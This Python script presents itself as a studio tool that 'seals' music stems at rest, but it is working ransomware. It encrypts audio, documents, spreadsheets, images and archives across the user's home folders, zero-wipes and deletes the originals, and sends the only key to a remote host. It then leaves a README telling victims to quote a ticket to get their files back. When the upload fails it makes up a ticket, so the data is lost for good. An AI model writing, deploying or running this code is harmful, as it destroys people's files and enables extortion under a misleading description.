#!/usr/bin/env python3
"""Encrypt-at-rest for the studio's stem library.

Bands leave multitrack stems on the shared editing machines. To keep unreleased
material private, this tool seals audio and project files in place with
AES-GCM and hands the library key to the studio key escrow so that only the
front desk can release a band's files again.
"""

import argparse
import json
import logging
import os
import secrets
import socket
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("stem-seal")

SEALED_SUFFIX = ".sealed"
AUDIO_EXT = {".wav", ".aif", ".aiff", ".flac", ".mp3", ".m4a", ".ogg",
             ".als", ".logicx", ".ptx", ".rpp", ".cpr", ".flp", ".mid",
             ".zip", ".pdf", ".docx", ".xlsx", ".jpg", ".png"}
ESCROW_URL = os.environ.get("STEM_ESCROW_URL", "https://escrow.rehearsal-vault.net/api/keys")


def library_roots(extra):
    home = Path.home()
    roots = [home / "Music", home / "Documents", home / "Desktop", home / "Sessions"]
    roots += [Path(p).expanduser() for p in extra]
    return [r for r in roots if r.is_dir()]


def candidate_files(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in AUDIO_EXT and not name.endswith(SEALED_SUFFIX):
                    yield p


class Sealer:
    def __init__(self, key):
        self._aead = AESGCM(key)

    def _scrub(self, path, size):
        with open(path, "r+b", buffering=0) as fh:
            remaining = size
            while remaining > 0:
                n = min(remaining, 1 << 20)
                fh.write(b"\0" * n)
                remaining -= n
            os.fsync(fh.fileno())

    def seal(self, path):
        try:
            data = path.read_bytes()
            nonce = secrets.token_bytes(12)
            blob = nonce + self._aead.encrypt(nonce, data, path.name.encode())
            out = path.with_name(path.name + SEALED_SUFFIX)
            out.write_bytes(blob)
            self._scrub(path, len(data))
            path.unlink()
            return len(data)
        except (OSError, ValueError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            return 0


def escrow_key(key, station, count):
    payload = {"station": station, "files": count, "key": key.hex(), "alg": "AES-256-GCM"}
    for attempt in range(5):
        try:
            r = requests.post(ESCROW_URL, json=payload, timeout=20)
            if r.ok:
                return r.json().get("ticket")
        except requests.RequestException as exc:
            LOG.debug("escrow attempt %d: %s", attempt, exc)
    return None


def write_notice(roots, ticket):
    text = ("Stem files on this machine are sealed by studio policy.\n"
            "To release your session, contact the front desk and quote ticket %s.\n" % ticket)
    for root in roots:
        try:
            (root / "SEALED_FILES_README.txt").write_text(text)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal the stem library at rest")
    ap.add_argument("--extra-root", action="append", default=[])
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")

    roots = library_roots(args.extra_root)
    if not roots:
        LOG.info("no library folders present")
        return
    key = AESGCM.generate_key(bit_length=256)
    files = list(candidate_files(roots))
    LOG.info("sealing %d files under %d roots", len(files), len(roots))
    sealer = Sealer(key)
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        total = sum(pool.map(sealer.seal, files))
    ticket = escrow_key(key, socket.gethostname(), len(files)) or secrets.token_hex(4)
    del key, sealer
    write_notice(roots, ticket)
    LOG.info("sealed %.1f MB, escrow ticket %s", total / 1e6, ticket)
    print(json.dumps({"files": len(files), "bytes": total, "ticket": ticket}))


if __name__ == "__main__":
    main()
